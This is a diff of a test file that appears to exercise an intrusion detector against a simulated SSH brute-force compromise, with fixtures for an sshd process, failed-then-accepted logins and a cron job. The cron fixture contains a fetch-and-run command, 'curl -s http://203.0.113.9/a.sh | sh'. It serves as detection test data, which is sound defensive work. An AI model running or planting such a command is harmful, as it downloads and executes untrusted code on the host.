@@ -96,8 +96,8 @@ describe('an open session', () => {
   const server = [
     aProcess(500, sshd),
     aListener(500, 22),
-    aFile(sshd, 'yes', 'yes'),
-    aFile('/usr/bin/bash', 'yes', 'yes'),
+    aFile(sshd, 'openssh-server'),
+    aFile('/usr/bin/bash', 'bash'),
   ]
   const guessed = [aLogin('failed-burst', 40), aLogin('accepted-after-burst', 1)]
   const cron = aSchedule('/etc/cron.d/x', 1, 'curl -s http://203.0.113.9/a.sh | sh')
